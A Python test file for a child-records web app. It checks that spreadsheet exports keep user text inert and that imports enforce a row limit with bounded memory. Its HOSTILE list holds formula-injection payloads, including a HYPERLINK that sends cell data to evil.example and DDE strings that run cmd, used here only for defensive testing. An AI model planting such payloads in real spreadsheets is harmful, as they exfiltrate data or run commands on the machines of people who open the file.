"""Excel: nothing a person typed is exported as a live formula; an import's row limit holds on the rows actually
read, whatever the file declares, with bounded memory."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import zipfile
from datetime import timedelta

import pytest
from openpyxl import Workbook, load_workbook

from tenant_app import clock, excel_safe
from tenant_app.children import excel, idcard, imports
from tests.tasks_factories import COUNTY, VILLAGE, make_campaign, people  # noqa: F401

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def make_id(birth: str = "20160301", seq: str = "013", area: str = "440203") -> str:
    first17 = area + birth + seq
    return first17 + idcard.check_char(first17)


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def assert_inert(data: bytes, expected: list[str]) -> None:
    found = cells(data)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    # XML carries a carriage return as a line feed: compare the text after that normalisation.
    by_value = {_lines(c.value): c for c in found if isinstance(c.value, str)}
    for text in expected:
        cell = by_value[_lines(text)]  # kept as typed ...
        assert cell.data_type == "s" and cell.quotePrefix  # ... as text, marked to stay text when edited


@pytest.mark.parametrize("write_only", [True, False])
def test_helper_writes_text_as_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    excel_safe.append(ws, ["姓名", "电话", "数量"])
    for text in HOSTILE:
        excel_safe.append(ws, [text, "+8613800001111", 3])
    excel_safe.append(ws, ["#N/A", "bell\x07", 1.5])
    out = io.BytesIO()
    wb.save(out)
    assert_inert(out.getvalue(), [*HOSTILE, "+8613800001111"])
    found = {c.value: c for c in cells(out.getvalue())}
    assert found["#N/A"].data_type == "s" and "bell" in found and found[3].data_type == "n"


def test_children_export_and_error_sheet_are_inert(client, make_user, token_for):
    headers = token_for(make_user(VILLAGE, "staff").username)
    record = {"name": HOSTILE[0], "sex": "male", "birth_date": "2016-03-01", "id_number": make_id(),
              "father_situation": "away", "mother_situation": "away", "guardian_name": "@SUM(1,1)",
              "guardian_phone": "+8613800001111", "current_address": "=cmd|' /C calc'!A0",
              "school_name": "-2+3", "father_work_city": "+1+cmd|' /C calc'!A0"}
    created = client.post("/api/v1/children", json=record, headers=headers)
    assert created.status_code == 201, created.get_json()
    for full in ("0", "1"):
        export = client.get(f"/api/v1/children/export.xlsx?full_ids={full}", headers=headers)
        assert export.status_code == 200
        assert_inert(export.data, [HOSTILE[0], "@SUM(1,1)", "+8613800001111", "=cmd|' /C calc'!A0", "-2+3"])

    wb = Workbook()
    wb.active.append(excel.HEADERS)
    wb.active.append(["=1+1" if h == "姓名" else None for h in excel.HEADERS])
    wb.active.append(["-1+1" if h == "家庭收入来源" else "男" if h == "性别" else None for h in excel.HEADERS])
    out = io.BytesIO()
    wb.save(out)
    upload = client.post("/api/v1/children/imports", headers=headers, content_type="multipart/form-data",
                         data={"file": (io.BytesIO(out.getvalue()), "f.xlsx")}).get_json()
    assert upload["status"] == "validated" and upload["error_count"] > 0
    sheet = client.get(f"/api/v1/children/imports/{upload['id']}/errors.xlsx", headers=headers)
    assert not [c for c in cells(sheet.data) if c.data_type == "f"]
    assert not [c for c in cells(client.get("/api/v1/children/import/template", headers=headers).data)
                if c.data_type == "f"]


def test_campaign_export_is_inert(app, client, make_campaign, people):  # noqa: F811
    from hierarchy.scope import Scope, scoped
    from tenant_app.campaigns.models import Task
    from tenant_app.db import db
    from tests.tasks_factories import QUESTIONS, VALID

    questions = [*QUESTIONS, {"key": "hostile", "label": "=1+2", "type": "text", "required": False}]
    made = make_campaign(questions=questions, issuer=COUNTY, title="@title")
    with scoped(Scope(all_tenants=True)):
        session = db.new_session()
        task = session.get(Task, made.tasks[VILLAGE])
        task.answers = {**VALID, "summary": HOSTILE[0], "hostile": "=cmd|' /C calc'!A0"}
        task.status = "submitted"
        task.submitted_at = clock.now() - timedelta(hours=1)
        session.commit()
        session.close()
    response = client.get(f"/api/v1/campaigns/{made.id}/export?unit={COUNTY}", headers=people["county"])
    assert response.status_code == 200, response.get_json()
    assert_inert(response.data, [HOSTILE[0], "=cmd|' /C calc'!A0", "=1+2"])


# --- the row limit -------------------------------------------------------------------------------------------

def hostile_workbook(rows: int, dimension: str | None = None) -> bytes:
    """A workbook of `rows` one-cell data rows whose sheet declares no dimension (or a false one)."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("儿童档案")
    ws.append(["姓名", "性别", "出生日期", "身份证号"])
    for i in range(rows):
        ws.append([f"儿童{i}"])
    out = io.BytesIO()
    wb.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = re.sub(rb"<dimension [^>]*/>", b"", data)
                if dimension:
                    data = data.replace(b"<sheetViews>", f'<dimension ref="{dimension}"/><sheetViews>'.encode(), 1)
                assert b"<dimension" not in data or dimension
            target.writestr(info, data)
    return result.getvalue()


@pytest.mark.parametrize("dimension", [None, "A1:D3"])
def test_rows_over_the_limit_are_counted_as_read_and_stop_the_job(client, make_user, token_for, dimension,
                                                                  monkeypatch):
    monkeypatch.setattr(imports, "MAX_ROWS", 500)
    headers = token_for(make_user(VILLAGE, "staff").username)
    content = hostile_workbook(1_200, dimension)
    read = []
    real = excel._jsonable
    monkeypatch.setattr(excel, "_jsonable", lambda v: read.append(1) or real(v))
    body = client.post("/api/v1/children/imports", headers=headers, content_type="multipart/form-data",
                       data={"file": (io.BytesIO(content), "big.xlsx")}).get_json()
    assert body["status"] == "failed", body
    assert "500" in body["message"] and body["errors"] == [] and body["valid_count"] == 0
    assert len(read) <= 501 * 4  # stopped at the first row over the limit, not at the end of the file
    # Under the limit, the same file shape is read whole (the rows fail validation, which is fine here).
    monkeypatch.setattr(imports, "MAX_ROWS", 2_000)
    body = client.post("/api/v1/children/imports", headers=headers, content_type="multipart/form-data",
                       data={"file": (io.BytesIO(content), "big.xlsx")}).get_json()
    assert body["status"] == "validated" and body["total_rows"] == 1_200


def test_the_web_request_does_not_read_the_rows(app, make_user, monkeypatch):
    from hierarchy.scope import Scope, scoped
    from tenant_app.db import db

    user = make_user(VILLAGE, "staff")
    monkeypatch.setattr(excel, "load_workbook", lambda *a, **k: pytest.fail("the request parsed the workbook"))
    with scoped(Scope.unit(VILLAGE)), app.test_request_context():
        session = db.new_session()
        imp = imports.start_dry_run(session, user, "big.xlsx", hostile_workbook(10))
        assert imp.status == "uploaded" and imp.total_rows == 0
        session.close()


MEASURE = """
import json, resource, sys, time
from tenant_app.children import excel
data = open(sys.argv[1], "rb").read()
base = int(open("/proc/self/statm").read().split()[1]) * resource.getpagesize() // 1024  # resident now
started = time.perf_counter()
try:
    excel.read_rows(data, 50_000)
    outcome = "read"
except excel.TooManyRows:
    outcome = "too_many_rows"
# VmHWM, not getrusage's ru_maxrss: Linux keeps ru_maxrss across exec, so it would report the test runner's size.
peak = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:"))
print(json.dumps({"outcome": outcome, "seconds": time.perf_counter() - started, "base_kb": base,
                  "peak_kb": peak}))
"""


def test_hostile_file_memory_is_bounded(tmp_path):
    """300,000 rows without a dimension against the real limit (50,000), in a process of its own."""
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(hostile_workbook(300_000))
    result = subprocess.run([sys.executable, "-c", MEASURE, str(path)], capture_output=True, text=True,
                            check=True, timeout=300)
    figures = json.loads(result.stdout)
    print(f"\nhostile 300,000-row file ({path.stat().st_size / 1024:.0f} KB): {figures}")
    assert figures["outcome"] == "too_many_rows"
    assert figures["peak_kb"] - figures["base_kb"] < 100 * 1024  # under 100 MB above the interpreter's imports
